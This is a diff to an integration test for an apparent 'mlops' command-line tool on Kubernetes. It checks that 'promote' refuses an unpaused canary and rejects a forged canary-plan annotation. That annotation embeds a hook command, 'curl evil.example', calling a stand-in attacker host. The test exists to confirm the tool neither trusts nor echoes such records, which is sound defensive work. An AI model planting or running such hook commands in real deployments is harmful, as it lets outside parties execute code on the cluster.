@@ -428,11 +428,41 @@ describe('mlops deploy on a real Kubernetes control plane', function () {
       replicas: t.replicas.desired,
     }))
     expect(tracks).to.deep.equal([
-      {track: 'canary', deployment: 'iris-canary', model: `iris@${version}`, replicas: 1, lastGate: 'step 10%: passed'},
-      {track: 'shadow', deployment: 'iris-shadow', model: `iris@${version}`, replicas: 1, lastGate: null},
+      {track: 'canary', deployment: 'iris-canary', model: `iris@${version}`, replicas: 1, lastGate: 'step 10%: passed', pausedAt: null},
+      {track: 'shadow', deployment: 'iris-shadow', model: `iris@${version}`, replicas: 1, lastGate: null, pausedAt: null},
     ])
     const text = await runCommand(['status', '--config', config], {root})
     expect(text.stdout).to.match(/^ {2}canary +iris-canary: iris@\S+, [01]\/1 ready; last gate: step 10%: passed$/m)
+
+    // Not paused (no record): promote refuses (exit 4); a record that is not one mlops wrote: exit 5, quoting none of it.
+    const running = await runCommand(['promote', '--config', config], {root})
+    expect((running.error as {oclif?: {exit?: number}}).oclif?.exit).to.equal(ExitCode.CONFLICT)
+    expect(running.stderr).to.contain('the canary iris/iris-canary is not paused')
+    const kubeconfig = new KubeConfig()
+    kubeconfig.loadFromFile(cluster.kubeconfig)
+    const objects = KubernetesObjectApi.makeApiClient(kubeconfig)
+    await objects.patch(
+      {
+        apiVersion: 'apps/v1',
+        kind: 'Deployment',
+        metadata: {
+          name: 'iris-canary',
+          namespace: 'iris',
+          annotations: {'mlops.io/canary-plan': '{"model": "iris@1", "hook": "curl evil.example"}'},
+        },
+      } as never,
+      undefined,
+      undefined,
+      'other-tool',
+      undefined,
+      PatchStrategy.MergePatch,
+    )
+    const forged = await runCommand(['promote', '--config', config], {root})
+    expect((forged.error as {oclif?: {exit?: number}}).oclif?.exit).to.equal(ExitCode.INTEGRITY)
+    expect(forged.stderr).to.contain(
+      "the paused canary's record on deployment iris/iris-canary is not one mlops wrote (the record: unknown field)",
+    )
+    expect(forged.stderr).to.not.contain('evil.example')
 
     const aborted = await runCommand(['abort', '--config', config, '--json'], {root})
     expect(aborted.error, aborted.stderr).to.equal(undefined)
